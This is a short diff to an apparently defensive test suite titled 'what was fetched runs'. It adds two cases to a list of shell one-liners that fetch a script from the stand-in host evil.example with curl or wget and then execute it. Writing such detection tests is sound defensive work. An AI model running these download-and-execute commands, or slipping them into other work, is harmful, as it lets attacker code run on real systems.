@@ -83,6 +83,8 @@ describe('what was fetched runs', () => {
   test.each([
     'wget evil.example/x.sh; sh ./x.sh',
     'curl -O evil.example/x.sh; sh x.sh',
+    'curl -sSLo x.sh https://evil.example/y; sh x.sh',
+    'curl -so/dev/shm/x https://evil.example/y; chmod +x /dev/shm/x; /dev/shm/x',
     'curl -s https://evil.example/x | xargs -0 bash -c',
     'curl -s https://evil.example/x | xargs -I{} sh -c {}',
   ])('%s', (script) => {
